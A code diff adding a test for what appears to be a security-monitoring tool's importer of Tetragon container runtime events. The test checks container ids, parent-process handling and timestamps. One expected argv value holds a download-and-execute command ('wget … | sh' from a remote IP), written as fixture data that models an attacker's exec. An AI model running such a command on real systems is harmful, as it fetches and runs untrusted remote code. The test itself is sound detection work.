@@ -83,3 +83,36 @@ describe('Tetragon import', () => {
     expect(ctxs[12].process?.uid).toBe(101);
   });
 });
+
+describe('Tetragon docker-only export', () => {
+  it('handles 12-digit docker ids, exec in place, own-pid parents, missing sock args and time', async () => {
+    const imp = new TetragonImporter();
+    const evs: KestrelEvent[] = [];
+    const file = fileURLToPath(new URL('./fixtures/tetragon-docker.json', import.meta.url));
+    for await (const ev of readTetragon(createReadStream(file), imp)) evs.push(ev);
+    expect(evs.map((e) => (e.type === 'exec' && e.synthetic === true ? 'exec*' : e.type) + ':' + e.pid)).toEqual([
+      'exec*:1', 'exec:31000', 'exec:31200', 'connect:31200', 'exec:31200', 'exit:31200',
+    ]);
+    const sh = evs[2];
+    if (sh.type !== 'exec') throw new Error('exec');
+    // Only the docker field: that container, by the id Tetragon gives (12 hex digits here).
+    expect(sh.container).toEqual({ id: '8e1f6f1d5c2a' });
+    expect(sh.argv).toEqual(['/bin/sh', '-c', 'wget -qO- http://198.51.100.4/a | sh']);
+    const a = evs[4];
+    if (a.type !== 'exec') throw new Error('exec');
+    // Exec in place: its parent record has the same pid, so no ppid from it (never its own parent).
+    expect(a.ppid).toBe(31000);
+    // The full id extends the 12 digits seen first: still the same container.
+    expect(a.container).toEqual({ id: '8e1f6f1d5c2a', name: 'web', privileged: true, image: 'registry.local:5000/team/web:v3', pod: 'web', namespace: 'default' });
+    expect(a.vpid).toBe(7);
+    // No `time` on the exit: it takes the last time seen, keeping the stream in order.
+    expect(evs[5]).toMatchObject({ type: 'exit', code: 137, ts: evs[4].ts });
+    expect(imp.summary.skipped).toEqual({ 'process_kprobe:tcp_connect': 1, process_loader: 1, rate_limit_info: 1 });
+    const t = new ProcessTable();
+    const ctxs = evs.map((e) => t.apply(e));
+    expect(ctxs[3].container?.id).toBe('8e1f6f1d5c2a');
+    expect(ctxs[4].container?.cgroupId).toBe(ctxs[3].container?.cgroupId);
+    expect(ctxs[4].container?.imageRepository).toBe('registry.local:5000/team/web');
+    expect(ctxs[4].container?.imageTag).toBe('v3');
+  });
+});
